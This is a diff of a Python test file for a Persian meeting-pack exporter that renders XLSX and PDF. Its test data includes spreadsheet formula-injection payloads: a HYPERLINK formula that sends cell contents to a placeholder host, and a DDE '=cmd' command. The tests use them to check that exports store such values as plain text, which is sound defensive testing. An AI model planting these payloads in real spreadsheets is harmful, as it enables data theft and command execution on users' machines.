@@ -11,7 +11,7 @@ from openpyxl import load_workbook
 from pypdf import PdfReader
 
 from mina_bot.export.chart import render_trend_png
-from mina_bot.export.dto import Pack, Table, Trend, TrendWeek
+from mina_bot.export.dto import Pack, Section, Table, Trend, TrendWeek
 from mina_bot.export.fonts import PERSIAN_REGULAR, visual
 from mina_bot.export.pdf import render_pdf
 from mina_bot.export.xlsx import render_xlsx
@@ -23,9 +23,10 @@ REPORTS = Table("گزارش‌های هفتگی", ("واحد", "وضعیت", "ر
 AGENDA = Table("دستور جلسه", ("ردیف", "عنوان"), tuple(
     (i, f"بند شماره {i} دستور جلسه") for i in range(1, 61)), (8, 80))
 EMPTY = Table("مصوبات", ("شماره", "موضوع"), (), (8, 60), empty="موردی نیست.")
-PACK = Pack("بسته جلسه ۲ شورای هماهنگی", "دوشنبه ۶ اردیبهشت ۱۴۰۰",
+PACK = Pack("بسته جلسه ۲ شورای هماهنگی", ("دوشنبه ۶ اردیبهشت ۱۴۰۰",),
             "تهیه‌شده در ۱۴۰۰/۰۲/۰۴ ۰۹:۳۰", "صفحه {page} از {pages}",
-            (REPORTS, EMPTY, AGENDA), "mina-session-2")
+            tuple(Section(t.sheet, tables=(t,)) for t in (REPORTS, EMPTY, AGENDA)),
+            "mina-session-2")
 
 
 def test_the_workbook_has_a_right_to_left_sheet_per_part_with_the_rows():
@@ -79,22 +80,6 @@ def test_bundled_font_and_visual_order_for_renderers_without_shaping():
     assert shaped[0] == "\ufee1"  # «م» after «ا» stands alone, and comes first visually
 
 
-def test_the_trend_counts_a_unit_missing_only_after_the_deadline():
-    import datetime as dt
-
-    from mina_bot.reports.reading import LATE, MISSING, ON_TIME, PENDING, Compliance
-    from mina_bot.reports.reading import UnitCompliance as Line
-    from mina_bot.reports.views import trend_dto
-    from storage.models import CouncilSession, Unit
-
-    when = dt.datetime(2021, 4, 26, 6, 30, tzinfo=dt.UTC)
-    lines = tuple(Line(Unit(id=i, key=str(i), name_fa="ک", name_en="u"), state, None, None, 0)
-                  for i, state in enumerate((ON_TIME, LATE, MISSING, PENDING, PENDING)))
-    series = [Compliance(CouncilSession(id=1, number=1, starts_at=when), when, lines)]
-    [week] = trend_dto(series, "fa", dt.UTC).weeks
-    assert (week.on_time, week.late, week.missing) == (1, 1, 1)  # not yet due: not missing
-
-
 FORMULAS = ('=HYPERLINK("http://x?d="&A1,"y")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
             "@SUM(A1)", "\t=1", "\r=1")
 
@@ -106,10 +91,22 @@ def test_formula_like_answers_subjects_and_titles_are_written_as_text():
                         tuple((i, f) for i, f in enumerate(FORMULAS, 1)), (8, 60))
     agenda = Table("دستور جلسه", ("ردیف", "عنوان"),
                    tuple((i, f) for i, f in enumerate(FORMULAS, 1)), (8, 80))
-    pack = Pack(FORMULAS[0], FORMULAS[1], "x", "{page}", (reports, resolutions, agenda), "p")
+    pack = Pack(FORMULAS[0], (FORMULAS[1],), "x", "{page}",
+                (Section("بسته", tables=(reports, resolutions, agenda)),), "p")
     workbook = load_workbook(io.BytesIO(render_xlsx(pack)))
     cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
     assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
     texts = [cell for cell in cells if cell.value in FORMULAS]
     assert len(texts) == 3 * len(FORMULAS) + 2
     assert all(cell.data_type == "s" and cell.quotePrefix for cell in texts)
+
+
+def test_a_narrow_column_never_breaks_its_header_word_and_a_huge_cell_continues():
+    rows = ((3, "ب" * 30 + " " + "متن بلند گزارش " * 900),)
+    table = Table("گزارش‌ها", ("پیوست‌ها", "شرح"), rows, (1, 60))
+    reader = PdfReader(io.BytesIO(render_pdf(Pack("بسته", (), "", "صفحه {page} از {pages}",
+                                                  (Section("گزارش‌ها", tables=(table,)),),
+                                                  "x"))))
+    pages = [page.extract_text() for page in reader.pages]
+    assert len(pages) > 3  # a row higher than a page goes on, never «a row too high»
+    assert all("پیوست‌ها" in page for page in pages[1:])  # whole, and on every page
